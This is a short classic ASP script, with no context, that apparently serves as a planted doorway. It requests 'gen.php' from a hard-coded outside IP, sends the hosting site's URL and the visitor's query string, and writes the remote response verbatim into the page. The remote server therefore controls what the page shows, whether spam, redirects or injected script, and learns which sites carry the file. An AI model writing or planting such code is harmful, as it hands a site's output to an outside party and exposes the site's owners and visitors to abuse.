<%
upstream = "http://203.0.113.7/"
self_url = "http://" & Request.ServerVariables("HTTP_HOST") & Request.ServerVariables("SCRIPT_NAME")
Set h = Server.CreateObject("MSXML2.ServerXMLHTTP")
h.Open "GET", upstream & "gen.php?site=" & self_url & "&q=" & Request.ServerVariables("QUERY_STRING"), False
h.Send
body = h.responseText
Response.Write body
%>
